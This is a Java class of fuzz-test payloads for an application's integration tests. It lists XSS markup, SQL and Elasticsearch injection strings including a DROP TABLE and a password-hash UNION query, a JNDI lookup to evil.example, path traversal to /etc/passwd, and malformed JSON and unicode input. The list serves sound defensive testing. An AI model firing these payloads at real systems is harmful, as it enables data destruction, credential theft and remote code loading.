package nl.gemeente.kms.it;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Hostile input for {@code FuzzIT}. Text payloads are JSON string literals (the text between the
 * quotes, already escaped), so that a lone surrogate or a NUL can be written as a JSON escape that
 * no well-behaved client would send.
 */
final class FuzzPayloads {

  /** Markup that must never come back live in rendered HTML. */
  static final List<String> XSS = List.of(
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "[klik](javascript:alert(1))",
      "<a href=\\\"javascript:alert(1)\\\">x</a>",
      "\\\"><svg onload=alert(1)>",
      "<iframe src=\\\"//evil.example\\\"></iframe>",
      "<div style=\\\"background:url(javascript:alert(1))\\\">x</div>",
      "![x](x\\\" onerror=\\\"alert(1))");

  static final List<String> TEXT = new ArrayList<>(XSS);

  static {
    TEXT.addAll(List.of(
        // SQL and Elasticsearch injection
        "' OR '1'='1", "'; DROP TABLE article; --", "1 UNION SELECT password_hash FROM app_user --",
        "{\\\"query\\\":{\\\"match_all\\\":{}}}", "*:* OR title:*", "\\\"}},\\\"script\\\":{\\\"source\\\":\\\"1\\\"", "/.*/",
        "((((((((((", "\\\\", "${jndi:ldap://evil.example/a}", "{{7*7}}",
        // path traversal
        "../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "..\\\\..\\\\windows\\\\win.ini",
        // unicode edge cases: RTL override, zero-width, emoji, lone surrogates, NUL, control characters
        "\\u202Egnp.exe", "a\\u200Bb\\u200Dc\\uFEFFd", "🙂👩‍👩‍👧 paspoort", "\\ud800", "x\\udfffy", "\\u0000", "a\\u0007\\u001bb",
        "", " ", "\\n\\n\\n"));
  }

  /** Values of the wrong JSON type for a field that expects a string (or a number). */
  static final List<String> WRONG_TYPES = List.of("12345", "true", "{}", "[]", "null", "-1", "1e400", "99999999999999999999");

  /** Bodies that are not JSON, or broken JSON. */
  static final List<String> MALFORMED = List.of("{", "{\"a\":", "[1,2", "'single'", "{\"a\":1,}", "nul", "\"text\"", "123",
      "[]", "{\"content\":{\"title\": }}", "\u0000", "[".repeat(100_000), "{\"a\":".repeat(50_000));

  /** Path segments that must never be read as anything but an unknown id or slug. */
  static final List<String> PATH_SEGMENTS = List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e", "-1", "0", "99999999999999999999",
      "1%00", "abc", "%F0%9F%99%82", "%ED%A0%80", "%27%20OR%201%3D1--", "1;drop", "%3Cscript%3E");

  /** Content types a JSON endpoint must refuse (415) or read as the JSON they hold. */
  static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x", "application/json; charset=nonsense", "image/png");

  /** Invalid UTF-8 inside a JSON string. */
  static byte[] invalidUtf8Json() {
    byte[] head = "{\"title\":\"".getBytes(StandardCharsets.UTF_8);
    byte[] tail = "\"}".getBytes(StandardCharsets.UTF_8);
    byte[] bad = {(byte) 0xC3, (byte) 0x28, (byte) 0xED, (byte) 0xA0, (byte) 0x80, (byte) 0xFF};
    byte[] all = new byte[head.length + bad.length + tail.length];
    System.arraycopy(head, 0, all, 0, head.length);
    System.arraycopy(bad, 0, all, head.length, bad.length);
    System.arraycopy(tail, 0, all, head.length + bad.length, tail.length);
    return all;
  }

  private FuzzPayloads() {}
}
